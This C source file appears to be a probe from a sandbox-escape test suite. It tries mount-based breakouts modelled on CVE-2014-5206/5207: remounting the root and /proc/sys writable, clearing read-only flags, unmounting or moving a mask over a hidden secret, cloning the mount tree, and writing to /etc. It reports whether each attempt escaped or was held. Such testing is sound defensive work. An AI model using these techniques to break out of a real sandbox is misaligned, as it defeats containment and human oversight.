/*
 * remount_mask: undo the sandbox's view from inside: remount the read-only
 * root writable, clear its flags with mount_setattr, move or unmount the
 * mask over the hidden secret, clone it with open_tree, make a new
 * filesystem context, and remount /proc/sys writable.
 *
 * Modelled on CVE-2014-5206 and CVE-2014-5207 (a user namespace could
 * remount a read-only bind mount read-write and drop nosuid/nodev/noexec
 * from it) and on the container breakouts that unmount a masked /proc
 * path; the new mount API (fsopen, open_tree, move_mount, mount_setattr)
 * is the same power through other system calls.
 *
 * Arguments: needle=HEX hidden=PATH.
 */
#include "escape.h"

#include <libgen.h>
#include <linux/mount.h>
#include <sys/mount.h>
#include <sys/syscall.h>

#ifndef MOUNT_ATTR_RDONLY
#define MOUNT_ATTR_RDONLY 0x00000001
#endif
#ifndef AT_RECURSIVE
#define AT_RECURSIVE 0x8000
#endif

struct attr {
  unsigned long long set, clr, propagation, userns_fd;
};

static void judge_secret(const char *check, const char *how, const char *hidden) {
  char buf[4096];
  ssize_t n = read_path(hidden, buf, sizeof buf);
  escaped(check, "%s worked%s", how, n > 0 && holds_needle(buf, (size_t)n) ? "; the secret reads" : "");
}

int main(int argc, char **argv) {
  escape_init("remount_mask", argc, argv);
  (void)needle();
  const char *hidden = need_arg("hidden");
  char copy[512];
  snprintf(copy, sizeof copy, "%s", hidden);
  const char *mask = dirname(copy);

  if (mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL) == 0) escaped("remount-root-rw", "mount(MS_REMOUNT|MS_BIND) of / without MS_RDONLY worked");
  else held("remount-root-rw", "mount(/, MS_REMOUNT|MS_BIND): %s", errname(errno));

  struct attr a = {.clr = MOUNT_ATTR_RDONLY};
  if (syscall(SYS_mount_setattr, AT_FDCWD, "/", AT_RECURSIVE, &a, sizeof a) == 0)
    escaped("mount_setattr-rw", "mount_setattr cleared MOUNT_ATTR_RDONLY on /");
  else held("mount_setattr-rw", "mount_setattr(/, clear RDONLY): %s", errname(errno));

  if (mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL) == 0) escaped("remount-proc-sys-rw", "/proc/sys remounted writable");
  else held("remount-proc-sys-rw", "mount(/proc/sys, MS_REMOUNT|MS_BIND): %s", errname(errno));

  if (umount2(mask, MNT_DETACH) == 0) judge_secret("umount-mask", "umount2 of the mask", hidden);
  else held("umount-mask", "umount2(%s, MNT_DETACH): %s", mask, errname(errno));

  if (umount2(hidden, 0) == 0) judge_secret("umount-file-mask", "umount2 of the file", hidden);
  else held("umount-file-mask", "umount2(%s): %s", hidden, errname(errno));

  if (mkdir("/tmp/.escape-move", 0700) != 0 && errno != EEXIST) held("move-mask", "mkdir /tmp/.escape-move: %s", errname(errno));
  else if (mount(mask, "/tmp/.escape-move", NULL, MS_MOVE, NULL) == 0) judge_secret("move-mask", "MS_MOVE of the mask", hidden);
  else held("move-mask", "mount(%s, MS_MOVE): %s", mask, errname(errno));
  rmdir("/tmp/.escape-move");

  int tree = (int)syscall(SYS_open_tree, AT_FDCWD, "/", OPEN_TREE_CLONE | AT_RECURSIVE);
  if (tree >= 0) {
    escaped("open_tree", "open_tree(OPEN_TREE_CLONE) cloned the root mount tree");
    close(tree);
  } else {
    held("open_tree", "open_tree(/, OPEN_TREE_CLONE): %s", errname(errno));
  }

  int fs = (int)syscall(SYS_fsopen, "tmpfs", 0);
  if (fs >= 0) {
    escaped("fsopen", "fsopen(\"tmpfs\") made a filesystem context");
    close(fs);
  } else {
    held("fsopen", "fsopen(tmpfs): %s", errname(errno));
  }

  int fd = open("/etc/.escape-write", O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
  if (fd >= 0) {
    close(fd);
    unlink("/etc/.escape-write");
    escaped("write-etc", "created a file in /etc");
  } else {
    held("write-etc", "creating /etc/.escape-write: %s", errname(errno));
  }
  return 0;
}
